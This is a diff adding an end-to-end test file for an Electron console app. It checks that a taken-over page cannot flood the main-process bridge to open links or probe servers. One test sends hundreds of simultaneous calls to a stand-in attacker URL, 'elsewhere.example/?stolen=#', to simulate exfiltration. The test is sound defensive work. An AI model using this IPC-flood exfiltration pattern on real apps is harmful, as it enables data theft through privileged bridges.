@@ -1,0 +1,77 @@
+import { randomUUID } from 'node:crypto';
+import { existsSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import type { DemoRealm } from '../../src-main/demo-realm/server.ts';
+import { addOrganization, openConsole, openRealm, type RunningConsole } from '../e2e/console.ts';
+
+/** What a page of ours that was taken over can have brought outside by the main process: tried in the running app. */
+const openedLinks = join(tmpdir(), `opened-links-${randomUUID()}`);
+/** Electron opens addresses in a browser; the shell writes them down, and answers questions as it is told. */
+const isRecorded = process.env['REALM_CONSOLE_TEST_ELECTRON'] === undefined;
+let realm: DemoRealm;
+let app: RunningConsole;
+let page: Page;
+
+beforeAll(async () => {
+  realm = await openRealm();
+  app = await openConsole({
+    env: { REALM_CONSOLE_OPENED_LINKS: openedLinks, REALM_CONSOLE_PRESSED_BUTTON: 'Open' },
+  });
+  page = app.page;
+  await addOrganization(page, realm);
+});
+afterAll(async () => {
+  await app?.close();
+  await app?.remove();
+  await realm?.close();
+  rmSync(openedLinks, { force: true });
+});
+
+const opened = (): string[] =>
+  existsSync(openedLinks) ? readFileSync(openedLinks, 'utf8').split('\n').filter(Boolean) : [];
+
+/** Calls main as often, all at once, as a page that was taken over would; `#` in the input is the number of the call. */
+function callAtOnce(name: string, input: object, times: number): Promise<string[]> {
+  return page.evaluate(
+    async ({ name, input, times }) => {
+      type Bridge = {
+        invoke(name: string, input: unknown, id: number): Promise<{ ok: boolean; failure?: object }>;
+      };
+      const bridge = (globalThis as unknown as { realmConsole: Bridge }).realmConsole;
+      const answers = Array.from({ length: times }, (_, number) => {
+        const own = JSON.parse(JSON.stringify(input).replaceAll('#', String(number))) as unknown;
+        return bridge.invoke(name, own, 1_000_000 + number);
+      });
+      return (await Promise.all(answers)).map((answer) => JSON.stringify(answer.failure ?? 'done'));
+    },
+    { name, input, times },
+  );
+}
+
+it.runIf(isRecorded)(
+  'a window opens one address for each click, and elsewhere none without an answer',
+  async () => {
+    await page.getByRole('heading', { name: 'People' }).first().click();
+    const answers = await callAtOnce('link.open', { url: 'https://elsewhere.example/?stolen=#' }, 500);
+    expect(answers.filter((answer) => answer === '"done"')).toHaveLength(1);
+    expect(opened()).toHaveLength(1);
+    expect(app.output()).toContain('Open elsewhere.example in the browser?');
+  },
+);
+
+it.runIf(isRecorded)('a window opens nothing that nobody clicked', async () => {
+  await callAtOnce('link.open', { url: 'https://elsewhere.example/' }, 1);
+  const before = opened();
+  const answers = await callAtOnce('link.open', { url: 'https://elsewhere.example/' }, 10);
+  expect(answers.filter((answer) => answer === '"done"')).toEqual([]);
+  expect(opened()).toEqual(before);
+});
+
+it('a window has ten servers asked that no organization is at, and no more', async () => {
+  const input = { discoveryId: 'of-the-page', address: 'stolen-#.invalid' };
+  const answers = await callAtOnce('organization.discover', input, 50);
+  expect(answers.filter((answer) => answer.includes('rate-limited')).length).toBeGreaterThanOrEqual(40);
+});
